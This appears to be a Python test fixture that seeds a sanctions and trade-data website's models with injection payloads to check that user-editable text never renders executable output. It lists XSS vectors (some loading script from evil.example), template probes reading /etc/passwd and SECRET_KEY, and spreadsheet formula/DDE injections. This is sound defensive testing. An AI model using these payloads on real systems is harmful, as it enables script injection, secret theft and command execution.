"""What somebody may write into a text so that it runs: Markdown, HTML, tokens of live figures, formulas, templates.

Each would make an element or an attribute `xss-mark`, a handler, a script, or a link that runs
(tests/attacks/markup.py).
"""

from faq.models import Question
from sanctions.models import Event, Measure, Resolution
from site_texts.models import SiteText
from tests.samples import soaking
from tests.trade import sites
from trade.models import Annotation, Section

HTML = [
    "<script>a()</script>", "<SCRIPT SRC=//evil.example/a.js></SCRIPT>", "<scr<script>ipt>a()</scr</script>ipt>",
    "<img src=x onerror=a()>", "<img/src=x/onerror=a()>", "<IMG SRC=x ONERROR=a()>", "<img src=x\tonerror\n=a()>",
    "<svg onload=a()>", "<svg><script>a()</script></svg>", "<svg><a xlink:href=javascript:a()><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:a() /><a id=x></a></svg>", "<body onload=a()>",
    "<iframe src=javascript:a()></iframe>", "<iframe srcdoc='<script>a()</script>'>", "<object data=javascript:a()>",
    "<embed src=javascript:a()>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:a()>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<style>@import '//evil.example/a.css'</style>",
    "<form action=javascript:a()><button>x</button></form>", "<input autofocus onfocus=a()>",
    "<details open ontoggle=a()>", "<a href=javascript:a()>x</a>", "<a href='&#106;avascript:a()'>x</a>",
    "<a href='java&NewLine;script:a()'>x</a>", "<a href=' \x01javascript:a()'>x</a>", "<xss-mark xss-mark=1>",
    "</title><xss-mark>", "</textarea><xss-mark>", "</script><xss-mark>", "--><xss-mark>", "]]><xss-mark>",
    "\"'><xss-mark onclick=a()>", "` onclick=a() <xss-mark>", "<!--><xss-mark>-->", "<!-- --!><xss-mark>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=a()&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=a()>\">", "<template><script>a()</script></template>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=a()>\">", "&lt;xss-mark onclick=a()&gt;",
    "\\<xss-mark\\>", "&#60;xss-mark&#62;", "<\x00script>a()</script>", "\ufeff<xss-mark>", "\u202e<xss-mark>\u202c",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:a())", "[x](JaVaScRiPt:a())", "[x](java\\script:a())", "[x](&#106;avascript:a())",
    "[x](javascript&colon;a())", "[x](java&Tab;script:a())", "[x](<javascript:a()>)", "[x](\x01javascript:a())",
    "[x](vbscript:a())", "[x](data:text/html,<xss-mark>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](blob:https://x.example/1)", "![x](javascript:a())", "![x\"onerror=a()](x)", "<javascript:a()>",
    "<data:text/html,x>", "[x][r]\n\n[r]: javascript:a()", "[x][r]\n\n[r]: <data:text/html,x> \"\"><xss-mark>\"",
    "[x](https://x.example \"'><xss-mark onclick=a()>\")", "[x](https://x.example/\"onclick=a()//)",
    "[<xss-mark>](https://x.example)", "# <xss-mark>", "```\"><xss-mark>\n<xss-mark>\n```", "`<xss-mark>`",
    "| <xss-mark> |\n| --- |\n| <img src=x onerror=a()> |", "> <script>a()</script>", "- <svg onload=a()>",
    "[x](#question-\"><xss-mark>)", "[x](#question-x){onclick=a()}",
]  # fmt: skip
OTHERS = [
    "{{ value <img src=x onerror=a()> 27 2024 }}", "{{ value from_dprk 27 2024 \"><xss-mark> }}",
    "{{ <xss-mark> }}", "{{ value from_dprk <script>a()</script> 2024 }}", "<xss-mark {{ value to_dprk all 2024 }}>",
    "[x](javascript:{{ value to_dprk all 2024 }})", "{% include '/etc/passwd' %}",
    "{{ 7|add:42 }}", "{{ settings.SECRET_KEY }}",
    "{% csrf_token %}<xss-mark>", "%(words)s %s <xss-mark>", "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1", "=HYPERLINK(\"https://evil.example\";\"x\")",
]  # fmt: skip
ALL = [*HTML, *MARKDOWN, *OTHERS]


def planted() -> list[str]:
    """Those that the site holds: all in a soak, else every third; without what forms refuse, and one database too."""
    return [text.replace("\x00", "").replace("\x01", "") for text in (ALL if soaking() else ALL[::3])]


def publish():
    """A site in which each text that an editor may write holds one of them, and one question for each."""
    sites.name_things()
    sites.release("china-provinces", sites.PLACES)
    sites.release("china-commodities", sites.GOODS)
    sites.release("china-totals", sites.TOTALS)
    texts = planted()
    questions(texts)
    resolutions(texts)
    for number, text in enumerate(texts):
        Event.objects.create(date=f"20{number % 24:02d}", title=text[:60], text=text, source=text, basis="read")
        Annotation.objects.create(dataset_id="china-provinces", text=text, year=2024)
    for number, key in enumerate(("summary", "about", "home", "questions", "name")):
        text = "\n\n".join(texts[number::5]) if key in ("about", "questions") else texts[number]
        SiteText.objects.update_or_create(key=key, defaults={"text": text})
    Section.objects.filter(number="V").update(short_title=texts[0])


def questions(texts):
    for number, text in enumerate(texts):
        about = ("27", "CN-LN", "FOB", "china-totals", "")[number % 5]
        made = Question(slug=f"q{number}", page="all", about=about, question=text[:200], answer=text, position=number)
        made.save()


def resolutions(texts):
    for number, text in enumerate(texts):
        resolution = Resolution.objects.create(
            number=1000 + number, adopted="2017-08-05", title=text[:120], summary=text, url=""
        )
        Measure.objects.create(
            resolution=resolution, direction="from_dprk", category="minerals", kind="full_ban", goods=text[:300],
            measure=text, exemptions=text, wind_down_or_cap=text, codes_text="2701", basis=f"S:{text}"[:200],
            effective_from="2017-08-05",
        )  # fmt: skip
